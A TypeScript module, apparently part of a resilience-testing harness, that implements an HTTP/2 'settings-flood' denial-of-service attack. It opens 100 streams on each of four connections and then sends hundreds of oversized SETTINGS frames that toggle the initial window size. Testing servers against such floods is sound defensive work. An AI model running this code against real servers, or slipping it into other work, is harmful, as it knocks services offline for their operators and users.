// SETTINGS frames that set the same thing 2,730 times, on connections with all their streams open.

import { settingsFrame } from '../support/http2-frames.ts';
import { type Attack, inLoops, pause } from './attack.ts';
import { attackConnection, requestFrame } from './frames.ts';

const CONNECTIONS = 4;
const STREAMS = 100;
const INITIAL_WINDOW_SIZE = 4;
/** What fits into a frame of 16 KiB. */
const ENTRIES = 2_730;
const FRAMES = 450;

export const settingsFlood: Attack = {
  name: 'settings-flood',
  does: `SETTINGS of ${ENTRIES} initial window sizes, with ${STREAMS} streams open`,
  async start(target) {
    const host = target.hosts.h2c;
    const settings = Array.from({ length: ENTRIES }, (_, i) => [INITIAL_WINDOW_SIZE, i % 2] as const);
    const flood = settingsFrame(settings);
    return inLoops(target, CONNECTIONS, async (stopped) => {
      const connection = await attackConnection(target, host, [[INITIAL_WINDOW_SIZE, 0]]);
      for (let i = 0; i < STREAMS; i++) await connection.send(requestFrame(2 * i + 1, host, '/large'));
      for (let i = 0; i < FRAMES && !stopped.aborted && !connection.closed; i++) await connection.send(flood);
      await pause(100, stopped);
      connection.close();
    });
  },
};
